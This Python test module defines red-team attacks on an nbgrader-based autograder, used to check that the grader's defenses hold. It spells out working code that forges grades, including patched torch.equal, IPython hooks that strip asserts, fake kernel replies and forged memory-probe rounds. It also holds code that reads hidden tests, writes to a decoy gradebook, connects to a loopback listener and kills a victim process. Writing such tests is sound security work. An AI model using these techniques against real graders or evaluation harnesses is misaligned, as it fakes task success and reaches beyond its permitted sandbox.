"""The red team's toolkit: attack definitions, the real targets they aim at, and how a run's outcome is read.

An attack proves itself twice. In a *control* run, graded by stock nbgrader with none of this course's configuration
(the hidden check runs inside the kernel, nothing is hidden, no uid drop, no network namespace), it must take effect:
it buys points on its target test cell, or its marker line says it reached its target and the target shows it (a
victim process died, a listener got a connection, a decoy file grew). In the *defended* runs (the grading command,
and plain ``nbgrader autograde`` with the course's configuration) it must buy nothing, be flagged where the attack
is of a flagged kind, and where it reaches for something, its marker must say ``blocked`` and the target must be
untouched.

Every attacker's notebook holds the untouched release stubs (worth 0) except its target cell, which holds a wrong
answer, and its attack code, which is appended to ``code_cell``. Outcomes distinguish *graded*, *flagged* and *not
graded*: a submission that could not be graded is never read as "blocked" or "0 points".

The red team grades the engine's fixture course (tests/fixture_course): its first solution cell (``double``) carries
most attacks, ``column_sums`` (whose hidden check compares values and runs the uninitialized-memory rounds) is the
cell whose wrong answers the attacks try to get points for, and ``prefix_sums`` is the cell a dying check aims at.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import threading
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent

import fixture_course
from fixture_course.answers import COLUMNS, DOUBLE, PREFIX, TEST_OF  # noqa: F401 - TEST_OF: each cell's test cell

from autograder.engine.gradebook import cell_scores
from autograder.engine.nbgrader.execute import INCIDENTS_SUFFIX
from autograder.tools.cohort import SyntheticStudent, reference_solutions

COURSE = fixture_course.LAYOUT
ASSIGNMENT = fixture_course.ASSIGNMENT
FULL_MARKS = 5
FIRST = DOUBLE
"""The first solution cell: attack code placed here runs before any hidden block."""
JUDGED = COLUMNS
"""The cell whose wrong answers the attacks try to get points for (values compared, uninitialized memory checked)."""
MARKER = "REDTEAM"

# Wrong answers the attacks try to get points for. Each is right whenever the visible tests call it and wrong only
# when the hidden check does (it looks for the judge's frame), so an attack only has to defeat the hidden check:
# the red team then does not depend on what the visible tests happen to check.
_JUDGED = dedent('''
    def _judged():
        import sys
        frame = sys._getframe(2)
        while frame is not None:
            if frame.f_code.co_name == "_call":
                return True
            frame = frame.f_back
        return False
''').strip()
JUDGED_WRONG = _JUDGED + dedent('''

    def column_sums(x):
        return x.sum(dim=0) + 1 if _judged() else x.sum(dim=0)
''')
COLUMNS_WORKS_ON_MY_LAPTOP = _JUDGED + dedent('''

    def column_sums(x):
        if _judged():
            # 64 MB comes straight from the OS as zero pages: "works" here, reads garbage anywhere else
            total = torch.empty(16 * 2**20, dtype=x.dtype)[: x.shape[1]]
        else:
            total = torch.zeros(x.shape[1], dtype=x.dtype)
        for row in x:
            total += row
        return total.clone()
''')

# Correct, except that when the judge calls it, it publishes 15 display messages of 200 MiB each.
FLOOD_WHILE_JUDGED = _JUDGED + dedent('''

    def column_sums(x):
        if _judged():
            from IPython.display import display
            for _ in range(15):
                display({"text/plain": "x" * (200 * 2**20)}, raw=True)
        return x.sum(dim=0)
''')

# Honest for its first four judged calls (one uninitialized-memory request), patching the probe meanwhile so that
# later rounds are forged; afterwards it reads 64 MB of fresh (zero) pages, which differ under every fill round.
PATCH_WHILE_JUDGED = _JUDGED + dedent('''

    _judged_calls = [0]

    def _forge_later_replies():
        import json, sys
        for module in list(sys.modules.values()):
            if hasattr(module, "handle") and hasattr(module, "FillUninitialized"):
                def forged(namespace, request, *rest, _original=module.handle):
                    reply = json.loads(_original(namespace, request, *rest))
                    for item in [reply, *reply.get("replies", [])]:
                        if isinstance(item, dict) and item.get("rounds"):
                            item["rounds"] = [item["rounds"][0]] * len(item["rounds"])
                    return json.dumps(reply)
                module.handle = forged

    def column_sums(x):
        honest = True
        if _judged():
            _judged_calls[0] += 1
            if _judged_calls[0] == 1:
                _forge_later_replies()
            honest = _judged_calls[0] <= 4
        if honest:
            total = torch.zeros(x.shape[1], dtype=x.dtype)
        else:
            total = torch.empty(16 * 2**20, dtype=x.dtype)[: x.shape[1]]
        for row in x:
            total += row
        return total.clone()
''')


@dataclass
class Targets:
    """Real things an attack aims at in one run: all created by the test, never the course's own files."""

    port: int
    victim_pid: int
    decoy_dir: Path
    root_only_file: Path | None

    @property
    def decoy_gradebook(self) -> Path:
        return self.decoy_dir / "gradebook.db"


@dataclass(frozen=True)
class Attack:
    """One attack: its code, the cell it aims to score on, and how the control run shows it took effect."""

    name: str
    code: str
    control: str  # "buys" | "reaches" | "ran" | "denies" (the control could not grade it) | "measured" (see why)
    target: str = FIRST
    wrong: str = ""
    code_cell: str = ""
    flagged: bool = True
    why: str = ""
    evidence: str = ""  # for "ran": what the marker line must show

    @property
    def student(self) -> str:
        return f"attack_{self.name}"

    def replacements(self, stubs: dict[str, str]) -> dict[str, str]:
        """The attacker's solution cells: stubs everywhere, the wrong answer and the attack code where they go."""
        cells = dict(stubs)
        if self.wrong:
            cells[self.target] = self.wrong
        where = self.code_cell or self.target
        cells[where] = f"{cells[where]}\n{self.code}"
        return cells


def _marker(name: str, evidence: str) -> str:
    return f'print("{MARKER} {name}:", {evidence}, flush=True)'


def _reach(name: str, body: str) -> str:
    """Code that tries ``body`` and prints whether it reached its target or was blocked (and by what)."""
    indented = "\n".join("    " + line for line in dedent(body).strip().splitlines())
    reached = _marker(name, repr("reached"))
    blocked = _marker(name, '"blocked " + type(_error).__name__')
    return f"try:\n{indented}\n    {reached}\nexcept Exception as _error:\n    {blocked}"


def attacks(targets: Targets) -> list[Attack]:
    """Every attack, aimed at this run's targets."""
    hidden_file = COURSE.root / "hidden" / "sums.py"
    source_file = COURSE.source_notebook(ASSIGNMENT)
    found = [
        # -- forging the verdict: each one buys points when the hidden check runs inside the kernel ----------------
        Attack("patch_comparisons", dedent('''
            import numpy as _np
            torch.equal = lambda *a, **k: True
            torch.allclose = lambda *a, **k: True
            torch.testing.assert_close = lambda *a, **k: None
            torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
            _np.allclose = _np.array_equal = lambda *a, **k: True
        ''') + _marker("patch_comparisons", "torch.equal(torch.zeros(1), torch.ones(1))"),
            "buys", JUDGED, JUDGED_WRONG),
        Attack("pre_run_cell_hook", dedent('''
            def _patch_before_every_cell(*args):
                torch.equal = lambda *a, **k: True
                torch.testing.assert_close = lambda *a, **k: None
            get_ipython().events.register("pre_run_cell", _patch_before_every_cell)
        ''') + _marker("pre_run_cell_hook", "'registered'"), "buys", JUDGED, JUDGED_WRONG),
        Attack("swap_torch_module", dedent('''
            import sys as _sys, types as _types
            _real_torch = _sys.modules["torch"]
            class _TorchProxy(_types.ModuleType):
                def __getattr__(self, name):
                    return getattr(_real_torch, name)
            _proxy = _TorchProxy("torch")
            _proxy.equal = _proxy.allclose = lambda *a, **k: True
            _proxy.testing = _types.SimpleNamespace(assert_close=lambda *a, **k: None)
            _sys.modules["torch"] = _proxy
            torch = _proxy
        ''') + _marker("swap_torch_module", "torch.equal(torch.zeros(1), torch.ones(1))"),
            "buys", JUDGED, JUDGED_WRONG, code_cell=FIRST,
            why="placed before the first hidden block, so that an in-kernel check imports the proxy"),
        Attack("blank_later_cells", "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
               + _marker("blank_later_cells", "'installed'"), "buys"),
        Attack("strip_checks", dedent('''
            import ast as _ast
            class _StripChecks(_ast.NodeTransformer):
                def visit_Assert(self, node):
                    return _ast.Pass()
                def visit_Expr(self, node):
                    if isinstance(node.value, _ast.Call) and getattr(node.value.func, "id", "") == "judge":
                        return _ast.Pass()
                    return node
            get_ipython().ast_transformers.append(_StripChecks())
        ''') + _marker("strip_checks", "'installed'"), "buys", JUDGED, JUDGED_WRONG),
        Attack("swallow_errors", dedent('''
            get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
            get_ipython().events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
        ''') + _marker("swallow_errors", "'installed'"), "buys",
            why="the post_run_cell hook clears the error, or stock nbgrader would still read it from the reply"),
        Attack("hide_tracebacks", _marker("hide_tracebacks", "'installing'") + dedent('''
            get_ipython().showtraceback = lambda *a, **k: None
            get_ipython().events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
        '''), "buys"),
        Attack("noop_run_cell", _marker("noop_run_cell", "'installing'") + dedent('''
            from IPython.core.interactiveshell import ExecutionInfo as _Info, ExecutionResult as _Result
            def _skip(raw_cell, *args, **kwargs):
                return _Result(_Info(raw_cell, False, False, False, None))
            async def _skip_async(raw_cell, *args, **kwargs):
                return _skip(raw_cell)
            get_ipython().run_cell = _skip
            get_ipython().run_cell_async = _skip_async
        '''), "buys"),
        Attack("fake_execute_reply", _marker("fake_execute_reply", "'installing'") + dedent('''
            async def _ok(*args, **kwargs):
                return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
            get_ipython().kernel.do_execute = _ok
        '''), "buys"),
        Attack("trace_skips_checks", dedent('''
            import sys as _sys
            def _tracer(frame, event, arg):
                if event == "call":
                    if frame.f_code.co_name in ("expect_close", "expect_unchanged"):
                        local = frame.f_locals
                        if "received" in local:
                            local["received"] = local["expected"]
                        if "after" in local:
                            local["after"] = local["before"]
                return None  # no line events: tracing every line of torch would take minutes
            _sys.settrace(_tracer)
        ''') + _marker("trace_skips_checks", "_sys.gettrace() is _tracer"), "buys", JUDGED, JUDGED_WRONG),
        Attack("forge_probe_replies", dedent('''
            import json as _json, sys as _sys
            try:
                import autograder.engine.probe  # where the hidden check runs inside the kernel, it calls this module
            except Exception:
                pass
            _forged = 0
            for _module in list(_sys.modules.values()):
                if hasattr(_module, "handle") and hasattr(_module, "FillUninitialized"):
                    def _handle(namespace, request, *rest, _original=_module.handle):
                        reply = _json.loads(_original(namespace, request, *rest))
                        if reply.get("rounds"):
                            reply["rounds"] = [reply["rounds"][0]] * len(reply["rounds"])
                        return _json.dumps(reply)
                    _module.handle = _handle
                    _forged += 1
        ''') + _marker("forge_probe_replies", "_forged"), "buys", JUDGED, COLUMNS_WORKS_ON_MY_LAPTOP),
        Attack("forge_reply_in_display_formatter", dedent('''
            import json as _json
            def _forge_rounds(text, printer, cycle):
                try:
                    reply = _json.loads(text)
                    if isinstance(reply, dict) and reply.get("rounds"):
                        reply["rounds"] = [reply["rounds"][0]] * len(reply["rounds"])
                        text = _json.dumps(reply)
                except Exception:
                    pass
                printer.text(repr(text))
            get_ipython().display_formatter.formatters["text/plain"].for_type(str, _forge_rounds)
        ''') + _marker("forge_reply_in_display_formatter",
                      "get_ipython().display_formatter.format('{\"rounds\": [1, 2]}')[0]['text/plain']"),
            "ran", JUDGED, COLUMNS_WORKS_ON_MY_LAPTOP, evidence="[1, 1]", flagged=False,
            why="the formatter sees every value the shell formats (its control shows it rewriting a rounds reply); "
                "judge replies never pass through the shell, so there is nothing to forge and nothing to flag"),
        Attack("flood_the_grader_while_judged", FLOOD_WHILE_JUDGED + _marker("flood_the_grader_while_judged", "'armed'"),
               "measured", JUDGED,
               why="3 GiB of output would swamp the stock control run too; the grader's peak memory is measured "
                   "instead (test_red_team.py::test_grader_memory_stays_flat_under_a_flood)"),
        Attack("patch_probe_while_judged", PATCH_WHILE_JUDGED + _marker("patch_probe_while_judged", "'armed'"),
               "buys", JUDGED,
               why="honest while its first check runs (and patches the probe then), garbage once replies are forged: "
                   "only a fingerprint taken right after each judged call sees it in time"),
        # -- impostors and denial: the in-kernel type checks and the dead-kernel rule hold in every mode ------------
        Attack("tensor_subclass_lies", dedent('''
            class _Liar(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    if getattr(func, "__name__", "") in ("equal", "allclose", "eq", "__eq__", "isclose"):
                        return True
                    return super().__torch_function__(func, types, args, kwargs or {})
            def column_sums(x):
                return x.clone().as_subclass(_Liar)
        ''') + _marker("tensor_subclass_lies", "torch.equal(column_sums(torch.ones(1)), torch.zeros(1))"),
            "ran", JUDGED, evidence="True"),
        Attack("object_equal_to_anything", dedent('''
            class _Anything:
                def __eq__(self, other):
                    return True
            def column_sums(x):
                return _Anything()
        ''') + _marker("object_equal_to_anything", "column_sums(None) == 42"), "ran", JUDGED, evidence="True"),
        Attack("break_kernel_messages", _marker("break_kernel_messages", "'installing'")
               + "\nimport json as _json\n_json.dumps = lambda *a, **k: '{}'", "denies",
               why="stock nbgrader cannot grade a kernel that speaks garbage: the effect is a submission not graded"),
        Attack("exit_during_check", dedent('''
            def prefix_sums(x):
                import os
                os._exit(0)
        ''') + _marker("exit_during_check", "'armed'"), "denies", PREFIX,
            why="stock nbgrader fails the whole notebook when the kernel dies"),
        # -- reaching out: each one reaches its target when nothing is contained ------------------------------------
        Attack("read_hidden_tests", _reach("read_hidden_tests", f"assert 'def check_' in open({str(hidden_file)!r}).read()"),
               "reaches"),
        Attack("read_source_notebook", _reach(
            "read_source_notebook", f"assert 'BEGIN SOLUTION' in open({str(source_file)!r}).read()"), "reaches"),
        Attack("import_hidden_tests", _reach("import_hidden_tests", f"import {COURSE.checks_package}.sums"), "reaches"),
        Attack("write_gradebook", _reach(
            "write_gradebook", f"open({str(targets.decoy_gradebook)!r}, 'ab').write(b'{MARKER}')"), "reaches"),
        Attack("network_to_listener", _reach("network_to_listener", f'''
            import socket
            with socket.create_connection(("127.0.0.1", {targets.port}), timeout=3) as _connection:
                _connection.sendall(b"{MARKER}")
        '''), "reaches"),
        Attack("kill_root_process", _reach(
            "kill_root_process", f"import os, signal\nos.kill({targets.victim_pid}, signal.SIGTERM)"), "reaches"),
    ]
    if targets.root_only_file is not None:
        found.append(Attack("read_root_only_file", _reach(
            "read_root_only_file", f"open({str(targets.root_only_file)!r}).read()"), "reaches", flagged=False,
            why="outside every hidden folder: only the uid drop stops it, and reading a file is not flagged"))
    return found


def innocent_code() -> dict[str, str]:
    """Correct students who merely look odd: they must keep full marks with no flag."""
    return {
        "own_helpers_with_grader_names": dedent('''
            def equal(a, b):
                return a == b
            def allclose(*args):
                return True
            def check_prefix_sums(fn):
                return None
            assert_close = allclose
        '''),
        "prints_to_stderr": "import sys, warnings\nprint('debug', file=sys.stderr)\nwarnings.warn('just a note')",
        "aliased_imports": "import numpy as npy\nimport torch as T\nZEROS = T.zeros(3) + npy.ones(3)",
        "files_in_cwd_and_tmp": dedent('''
            import os, tempfile
            with open("notes.txt", "w") as handle:
                handle.write("hello")
            with open(os.path.join(tempfile.gettempdir(), "scratch.txt"), "w") as handle:
                handle.write("hi")
            FILES = os.listdir(".")
        '''),
        "own_class_with_eq": dedent('''
            from dataclasses import dataclass
            @dataclass
            class Point:
                x: float
                y: float
            ORIGIN = Point(0.0, 0.0) == Point(0.0, 0.0)
        '''),
        "global_seed_at_top_level": "torch.manual_seed(0)",
    }


TAMPER_CELL = COLUMNS
TAMPER_CODE = ("_real_equal = torch.equal\n"
               "torch.equal = lambda *a, **k: True  # tampering halfway through, after an honest test")
RESTORE_CELL = PREFIX
RESTORE_CODE = "torch.equal = _real_equal  # put back after being caught: the later tests must stay at zero"


def cohort(targets: Targets, stubs: dict[str, str], *, with_innocents: bool = True) -> list[SyntheticStudent]:
    """Attackers (stubs plus one wrong answer and one attack), then innocents and a correct student who tampers."""
    students = [SyntheticStudent("wrong_baseline", "stubs only", dict(stubs))]
    students += [SyntheticStudent(a.student, a.name, a.replacements(stubs)) for a in attacks(targets)
                 if with_innocents or a.control != "measured"]
    if with_innocents:
        reference = reference_solutions(ASSIGNMENT)
        for name, code in innocent_code().items():
            students.append(SyntheticStudent(f"innocent_{name}", name, {**reference, FIRST: f"{reference[FIRST]}\n{code}"}))
        students.append(SyntheticStudent("tamper_midway", "reference, tampering in a middle cell, undone in a later one",
                                         {**reference, TAMPER_CELL: f"{reference[TAMPER_CELL]}\n{TAMPER_CODE}",
                                          RESTORE_CELL: f"{reference[RESTORE_CELL]}\n{RESTORE_CODE}"}))
    return students


# ---------------------------------------------------------------------------------------------------- targets

class Listener:
    """A TCP server on loopback that records what every connection sent."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(3)
                try:
                    self.received.append(connection.recv(64))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self.server.close()


@dataclass
class RunTargets:
    """The targets of one run and their state afterwards."""

    targets: Targets
    listener: Listener
    victim: subprocess.Popen
    cleanup: list = field(default_factory=list)

    def victim_alive(self) -> bool:
        return self.victim.poll() is None

    def decoy_grew(self) -> bool:
        return MARKER.encode() in self.targets.decoy_gradebook.read_bytes()

    def close(self) -> None:
        self.listener.close()
        if self.victim.poll() is None:
            self.victim.kill()
        self.victim.wait()
        for undo in self.cleanup:
            undo()


def make_targets() -> RunTargets:
    """A listener, a root-owned victim process, a decoy gradebook inside the course folder, a root-only file."""
    import shutil

    listener = Listener()
    victim = subprocess.Popen(["sleep", "900"], start_new_session=True)
    decoy_dir = COURSE.root / f".redteam-{uuid.uuid4().hex[:8]}"
    decoy_dir.mkdir()
    (decoy_dir / "gradebook.db").write_bytes(b"SQLite format 3\x00 decoy of the red-team tests")
    root_only = None
    if os.geteuid() == 0:
        root_only = Path("/var/lib") / f"autograder-redteam-{uuid.uuid4().hex[:8]}"
        root_only.write_text("only root may read this")
        root_only.chmod(0o600)
    run = RunTargets(Targets(listener.port, victim.pid, decoy_dir, root_only), listener, victim)
    run.cleanup.append(lambda: shutil.rmtree(decoy_dir, ignore_errors=True))
    if root_only is not None:
        run.cleanup.append(lambda: root_only.unlink(missing_ok=True))
    return run


# ---------------------------------------------------------------------------------------------------- outcomes

@dataclass
class Outcome:
    """What grading made of one submission: whether it was graded at all, its points, flags and marker lines."""

    status: str  # "graded", or "not graded: <reason>"
    scores: dict[str, float]
    flags: set[str]
    markers: list[str]

    @property
    def graded(self) -> bool:
        return self.status == "graded"


def read_outcome(workdir: Path, db_url: str, student: str, *, results: dict | None, flag_kinds: frozenset,
                 log: str = "") -> Outcome:
    """Read one student's outcome from the gradebook, the autograded notebook and the grading record.

    ``results`` are the grading command's per-student results (None for plain nbgrader, whose log is ``log``).
    """
    folder = workdir / "autograded" / student / ASSIGNMENT
    notebook = folder / f"{ASSIGNMENT}.ipynb"
    record = folder / f"{ASSIGNMENT}{INCIDENTS_SUFFIX}"
    scores = cell_scores(db_url, ASSIGNMENT, student)
    flags: set[str] = set()
    if record.exists():
        flags = {i["kind"] for i in json.loads(record.read_text(encoding="utf-8"))["incidents"]} & flag_kinds
    if results is not None:
        result = results.get(student)
        status = "graded" if result and result["status"] == "graded" else \
            f"not graded: {result['error'] if result else 'no result'}"
        if result:
            flags |= {i["kind"] for i in result["incidents"]} & flag_kinds
    elif notebook.exists() and scores:
        status = "graded"
    else:
        lines = [line for line in log.splitlines() if student in line or "Error" in line]
        status = f"not graded: {' | '.join(lines[-3:]) or 'no autograded notebook'}"
    markers = []
    if notebook.exists():
        for cell in json.loads(notebook.read_text(encoding="utf-8"))["cells"]:
            for output in cell.get("outputs", []):
                text = output.get("text", "")
                text = "".join(text) if isinstance(text, list) else text
                markers += [line for line in text.splitlines() if line.startswith(MARKER)]
    return Outcome(status, scores, flags, markers)
